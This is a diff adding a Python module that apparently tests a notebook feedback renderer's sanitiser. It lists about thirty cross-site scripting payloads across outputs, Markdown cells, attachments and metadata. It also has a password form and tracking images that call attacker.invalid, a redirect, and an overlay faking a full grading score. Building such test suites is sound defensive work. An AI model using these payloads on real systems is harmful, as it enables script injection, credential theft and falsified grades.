@@ -1,0 +1,103 @@
+"""Acting in the browser of whoever reads the feedback: scripts, requests, links, frames, and a result that is none."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from .attack import Attack, Edit, Goal, both, cell, markdown, raw
+
+OUTPUTS, CELLS, DOCUMENT = "acting in the browser: outputs", "acting in the browser: text cells", "acting in the browser: metadata"
+CLEAN = "sanitised notebook"
+RUN = "window.attacked=1"
+
+
+def _html(text: str) -> Edit:
+    return cell(f"from IPython.display import HTML, display\ndisplay(HTML({text!r}))")
+
+
+def _mime(mime: str, content: object, **metadata: object) -> Edit:
+    return cell(f"from IPython.display import display\ndisplay({{{mime!r}: {content!r}}}, raw=True, metadata={metadata!r})")
+
+
+def _metadata(name: str, value: Any) -> Edit:
+    def edit(notebook: Any) -> None:
+        notebook.metadata[name] = value
+
+    return edit
+
+
+def _of_cell(name: str, value: Any) -> Edit:
+    def edit(notebook: Any) -> None:
+        next(one for one in notebook.cells if one.id == "setup").metadata[name] = value
+
+    return edit
+
+
+def _attack(name: str, kind: str, does: str, edit: Edit) -> Attack:
+    return Attack(name, kind, does, edit, Goal.BROWSER, CLEAN)
+
+
+ATTACKS = (
+    _attack("script", OUTPUTS, "Displays HTML with a script.", _html(f"<script>{RUN}</script>")),
+    _attack("handler", OUTPUTS, "Displays an image whose error handler is a script.",
+            _html(f"<img src='nowhere:' onerror='{RUN}'>")),
+    _attack("script in SVG", OUTPUTS, "Displays a drawing that holds a script.",
+            _mime("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>")),
+    _attack("handler in SVG", OUTPUTS, "Displays a drawing whose load handler is a script.",
+            _mime("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'></svg>")),
+    _attack("JavaScript", OUTPUTS, "Displays JavaScript as such.", _mime("application/javascript", RUN)),
+    _attack("link with a script", OUTPUTS, "Displays a link that runs a script when it is followed.",
+            _html(f"<a href='java&#10;script:{RUN}'>your points</a>")),
+    _attack("frame", OUTPUTS, "Displays a frame with a document of its own.",
+            _html(f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>")),
+    _attack("form", OUTPUTS, "Displays a form that asks for a password and sends it away.",
+            _html("<form action='http://attacker.invalid/'><input type='password' name='p'><button>Log in</button></form>")),
+    _attack("image from outside", OUTPUTS, "Displays an image that tells its server who reads the feedback, and when.",
+            _html("<img src='http://attacker.invalid/seen.png'>")),
+    _attack("style from outside", OUTPUTS, "Displays a style with an address outside.",
+            _html("<div style='background:url(http://attacker.invalid/seen.png)'>.</div>")),
+    _attack("style sheet", OUTPUTS, "Displays a style sheet that hides the real result.",
+            _html("<style>h1, h2, h3, table { display: none !important }</style>")),
+    _attack("result of one's own", OUTPUTS, "Displays a full result that lies over the real one.",
+            _html("<div style='position:fixed;inset:0;background:white;z-index:99999'><h2>Result: 20 of 20 points</h2></div>")),
+    _attack("link in Markdown output", OUTPUTS, "Displays Markdown with a link that runs a script.",
+            _mime("text/markdown", f"[your points](javascript:{RUN})")),
+    _attack("script in LaTeX output", OUTPUTS, "Displays LaTeX with a link that runs a script.",
+            _mime("text/latex", f"$\\href{{javascript:{RUN}}}{{points}}$")),
+    _attack("picture that ends its tag", OUTPUTS, "Displays picture data that close the tag and begin a script.",
+            _mime("image/png", f"x'\"><script>{RUN}</script>")),
+    _attack("width that ends its tag", OUTPUTS, "Displays a picture whose width closes the attribute.",
+            _mime("image/png", "aGk=", **{"image/png": {"width": f"1\" onerror=\"{RUN}"}})),
+    _attack("widget that ends its script", OUTPUTS, "Displays a widget whose id ends the script that it stands in.",
+            _mime("application/vnd.jupyter.widget-view+json",
+                  {"model_id": f"</script><script>{RUN}</script>", "version_major": 2})),
+    _attack("script in Markdown", CELLS, "Writes a script in a Markdown cell.", markdown(f"An answer. <script>{RUN}</script>")),
+    _attack("handler in Markdown", CELLS, "Writes an image with a handler in a Markdown cell.",
+            markdown(f"An answer. <img src=x onerror='{RUN}'>")),
+    _attack("link in Markdown", CELLS, "Writes a link that runs a script.", markdown(f"[my plot](javascript:{RUN})")),
+    _attack("image from outside in Markdown", CELLS, "Writes an image from outside in a Markdown cell.",
+            markdown("![plot](http://attacker.invalid/seen.png)")),
+    _attack("script in a formula", CELLS, "Writes a formula with a link that runs a script.",
+            markdown(f"$\\href{{javascript:{RUN}}}{{x}}$")),
+    _attack("leads elsewhere", CELLS, "Writes an element that loads another page.",
+            markdown("<meta http-equiv='refresh' content='0; url=http://attacker.invalid/'>")),
+    _attack("raw cell", CELLS, "Writes HTML in a raw cell.",
+            raw(f"<script>{RUN}</script>", metadata={"raw_mimetype": "text/html", "format": "text/html"})),
+    _attack("attachment that ends its tag", CELLS, "Attaches a picture whose type closes the attribute.",
+            markdown("![a](attachment:a.png)",
+                     attachments={"a.png": {f"image/png\" onerror=\"{RUN}": "aGk="}})),
+    _attack("attached drawing", CELLS, "Attaches a document with a script as a picture, and links to it.",
+            markdown("<iframe src='attachment:a.svg'></iframe> ![a](attachment:a.svg)",
+                     attachments={"a.svg": {"text/html": "PHNjcmlwdD5wYXJlbnQuYXR0YWNrZWQ9MTwvc2NyaXB0Pg=="}})),
+    _attack("title", DOCUMENT, "Gives the notebook a title that ends the page's head.",
+            _metadata("title", f"</title><script>{RUN}</script>")),
+    _attack("tags", DOCUMENT, "Tags a cell with what ends its element.",
+            _of_cell("tags", [f"\"><script>{RUN}</script>"])),
+    _attack("widget state", DOCUMENT, "Keeps a widget state that ends the script that it stands in.",
+            both(_metadata("widgets", {"application/vnd.jupyter.widget-state+json": {
+                "version_major": 2, "version_minor": 0, "state": {"a": {"x": f"</script><script>{RUN}</script>"}}}}),
+                cell("1"))),
+    _attack("language", DOCUMENT, "Names a language that ends its attribute.",
+            both(_metadata("language_info", {"name": "python", "mimetype": f"\"><script>{RUN}</script>",
+                                             "pygments_lexer": f"\"><script>{RUN}</script>"}), cell("1"))),
+)  # fmt: skip
